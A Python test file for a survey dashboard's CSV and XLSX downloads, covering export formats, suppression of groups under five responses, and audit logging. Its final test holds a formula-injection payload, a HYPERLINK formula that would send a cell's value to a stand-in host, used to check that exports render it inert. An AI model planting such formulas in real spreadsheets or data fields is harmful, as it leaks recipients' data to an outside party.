"""Every dashboard table downloads as CSV (parses) and XLSX (opens with openpyxl); the publication version
leaves figures of groups under 5 responses empty; downloads are audited."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey.models import AuditEntry
from survey.services.reporting.downloads import Column, Table, for_publication, to_csv, to_xlsx
from tests.factories import make_user
from tests.pages import sign_in
from tests.survey.datasets.dashboard import standard_data

TABLES = ("trend", "procedures", "offices", "channels", "elements", "tt01", "service_modes", "extra_payment")


@pytest.fixture
def admin_client(client, session):
    standard_data()
    sign_in(client, make_user(role="admin"))
    return client


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_every_table_downloads_as_csv_and_xlsx(admin_client, session):
    for table in TABLES:
        rows = csv_rows(admin_client.get(f"/dashboard/download/{table}.csv"))
        assert rows, table
        xlsx = admin_client.get(f"/dashboard/download/{table}.xlsx")
        assert xlsx.status_code == 200 and "attachment" in xlsx.headers["Content-Disposition"]
        sheet = load_workbook(io.BytesIO(xlsx.data)).worksheets[1]
        values = list(sheet.iter_rows(values_only=True))
        assert len(values) == 2 + len(rows), table  # title, header labels, one line per CSV row
    procedures = {row["procedure"]: row for row in csv_rows(admin_client.get("/dashboard/download/procedures.csv"))}
    assert procedures["1.001193"]["n"] == "150" and procedures["1.001193"]["status"] == "not_met"
    assert float(procedures["1.001193"]["share"]) == pytest.approx(127 / 150)
    actions = session.scalars(select(AuditEntry.target).where(AuditEntry.action == "dashboard.download")).all()
    assert sorted(set(actions)) == sorted(TABLES)


def test_the_publication_version_suppresses_groups_under_five(admin_client):
    plain = {r["procedure"]: r for r in csv_rows(admin_client.get("/dashboard/download/procedures.csv"))}
    assert plain["2.000815"]["n"] == "3"
    published = csv_rows(admin_client.get("/dashboard/download/procedures.csv?publication=1"))
    rows = {row["procedure"]: row for row in published}
    small = rows["2.000815"]
    assert small["suppressed"] == "true"
    assert small["n"] == small["satisfied"] == small["share"] == small["ci_low"] == small["ci_high"] == ""
    assert rows["1.001193"]["suppressed"] == "false" and rows["1.001193"]["n"] == "150"
    xlsx = admin_client.get("/dashboard/download/procedures.xlsx?publication=1&lang=en")
    lines = list(load_workbook(io.BytesIO(xlsx.data)).worksheets[1].iter_rows(values_only=True))
    header = lines[1]
    row = next(line for line in lines if line and line[0] == "2.000815")
    assert row[header.index("Responses")] is None and row[header.index("Suppressed")] == "Yes"
    assert any(line and line[0] and "fewer than 5" in str(line[0]) for line in lines)
    channels = csv_rows(admin_client.get("/dashboard/download/service_modes.csv?publication=1&office=79.02"))
    assert all(row["count"] == "" for row in channels)  # no one at 79.02 answered: 0 < 5, suppressed


def test_suppression_applies_to_counts_of_distribution_tables():
    table = Table(
        "modes", "Modes", [Column("mode", "Mode", figure=False), Column("count", "Count"), Column("share", "Share")],
        [{"mode": "online", "count": 4, "share": 0.04}, {"mode": "in_person", "count": 96, "share": 0.96}],
        count_key="count",
    )  # fmt: skip
    published = for_publication(table, note="small cells hidden")
    assert [row["count"] for row in published.rows] == [None, 96]
    assert list(csv.reader(io.StringIO(to_csv(published).decode("utf-8-sig"))))[1] == ["online", "", "", "true"]
    sheet = load_workbook(io.BytesIO(to_xlsx(published))).worksheets[1]
    assert sheet["A1"].value == "Modes" and sheet.cell(row=sheet.max_row, column=1).value == "small cells hidden"


def test_a_csv_download_names_its_charset_once(admin_client):
    response = admin_client.get("/dashboard/download/procedures.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_an_office_name_written_as_a_formula_downloads_inert(admin_client, session):
    """A name typed as `=HYPERLINK(…)` in a catalog file must not become a live formula in an official's Excel."""
    from survey.models import Office

    hostile = '=HYPERLINK("http://lua-dao.example/?c="&A1,"Bấm để xem")'
    session.scalars(select(Office).where(Office.code == "79.02")).one().name = hostile
    session.commit()
    xlsx = admin_client.get("/dashboard/download/offices.xlsx")
    sheets = load_workbook(io.BytesIO(xlsx.data)).worksheets
    every_cell = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    cells = [cell for cell in every_cell if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # openpyxl reads a live formula as "f"
    assert cells[0].value == "'" + hostile
    assert not any(cell.data_type == "f" for cell in every_cell)
    offices = {row["office"]: row for row in csv_rows(admin_client.get("/dashboard/download/offices.csv"))}
    assert offices["79.02"]["name"] == "'" + hostile
    assert offices["79.02"]["n"] == "50"  # figures stay figures
